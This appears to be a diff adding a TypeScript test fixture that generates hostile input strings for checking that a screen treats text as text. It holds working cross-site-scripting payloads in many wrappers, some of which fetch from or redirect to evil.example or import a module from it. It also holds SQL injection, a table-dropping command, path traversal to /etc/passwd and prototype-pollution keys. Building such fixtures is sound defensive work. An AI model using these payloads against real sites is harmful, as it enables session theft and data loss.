@@ -1,0 +1,98 @@
+/** Three hundred texts that would do something if any screen took them for more than text. Each is at most 100 letters. */
+
+/** What is tried: a mark on the window, a dialog, a request to a stranger, another page, a module of a stranger. */
+const DEEDS = [
+  'fired=1',
+  'alert(1)',
+  "fetch('//evil.example')",
+  "location='//evil.example'",
+  "import('//evil.example/x.js')",
+]
+
+/** Ways in which text becomes script where it is put into markup, attributes, addresses, styles or scripts. */
+const WAYS: readonly ((deed: string) => string)[] = [
+  (deed) => `<script>${deed}</script>`,
+  (deed) => `</script><script>${deed}</script>`,
+  (deed) => `<ScRiPt >${deed}</ScRiPt\n>`,
+  (deed) => `</title><script>${deed}</script>`,
+  (deed) => `</style><script>${deed}</script>`,
+  (deed) => `</textarea><script>${deed}</script>`,
+  (deed) => `--><script>${deed}</script>`,
+  (deed) => `<!--<script>${deed}</script>-->`,
+  (deed) => `]]><script>${deed}</script>`,
+  (deed) => `<img src=x onerror="${deed}">`,
+  (deed) => `"><img src=x onerror="${deed}">`,
+  (deed) => `'><img src=x onerror=${deed}>`,
+  (deed) => `<img/src=x/onerror=${deed}>`,
+  (deed) => `<svg onload="${deed}">`,
+  (deed) => `<svg><script>${deed}</script></svg>`,
+  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
+  (deed) => `<math><mtext><style><img src=x onerror="${deed}">`,
+  (deed) => `<body onload="${deed}">`,
+  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
+  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
+  (deed) => `<object data="javascript:${deed}"></object>`,
+  (deed) => `<embed src="javascript:${deed}">`,
+  (deed) => `<a href="javascript:${deed}">x</a>`,
+  (deed) => `<form action="javascript:${deed}"><button autofocus>`,
+  (deed) => `<input autofocus onfocus="${deed}">`,
+  (deed) => `<details open ontoggle="${deed}">`,
+  (deed) => `<video><source onerror="${deed}"></video>`,
+  (deed) => `<audio src=x onerror="${deed}">`,
+  (deed) => `<template><script>${deed}</script></template>`,
+  (deed) => `<dialog open onclose="${deed}">`,
+  (deed) => `<x contenteditable onblur="${deed}">`,
+  (deed) => `<style>@import '//evil.example/${deed.length}.css'</style>`,
+  (deed) => `<link rel=stylesheet href="//evil.example/?${deed.length}">`,
+  (deed) => `<meta http-equiv=refresh content="0;url=//evil.example/${deed.length}">`,
+  (deed) => `<base href="//evil.example/${deed.length}/">`,
+  (deed) => `" onmouseover="${deed}" x="`,
+  (deed) => `' onfocus='${deed}' autofocus x='`,
+  (deed) => `" style="background:url(//evil.example/${deed.length})`,
+  (deed) => `javascript:${deed}`,
+  (deed) => `JaVaScRiPt:${deed}`,
+  (deed) => `java\tscript:${deed}`,
+  (deed) => `data:text/html,<script>${deed}</script>`,
+  (deed) => `vbscript:${deed}`,
+  (deed) => `\${${deed}}`,
+  (deed) => `{{constructor.constructor("${deed}")()}}`,
+  (deed) => `<%= ${deed} %>`,
+  (deed) => `";${deed};//`,
+  (deed) => `';${deed};//`,
+  (deed) => `\\";${deed};//`,
+  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
+  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
+  (deed) => `&#60;script&#62;${deed}&#60;/script&#62;`,
+  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
+  (deed) => `＜script＞${deed}＜/script＞`,
+]
+
+/** Names of the language, letters that turn or hide others, and patterns of every engine that a text may pass through. */
+const OTHERS: readonly string[] = [
+  ...[
+    '__proto__',
+    'constructor',
+    'prototype',
+    'toString',
+    'hasOwnProperty',
+    'then',
+    '[object Object]',
+    'undefined',
+    'NaN',
+  ],
+  ...['$&', '$`', "$'", '$$', '%s%n%d', '{0}', '<!--brand-->', '<!--page-->', '<div id="root">', 'a\u2028b\u2029c'],
+  ...[
+    '\u202Egnp.txt',
+    '\u2066abc\u2069',
+    'ก\u200Bข\u200Cค\u200Dง',
+    '\uFEFFx',
+    '👩‍👩‍👧‍👦🇹🇭',
+    `ก${'้'.repeat(40)}`,
+    'Z̷͙͗a̴l̵g̷o̶',
+  ],
+  ...["' or 1=1 --", '"; drop table members; --', '../../etc/passwd', '//evil.example/', 'https://evil.example/'],
+]
+
+export const HOSTILE_TEXTS: readonly string[] = [...WAYS.flatMap((way) => DEEDS.map(way)), ...OTHERS].filter(
+  (text, index, all) => all.indexOf(text) === index,
+)
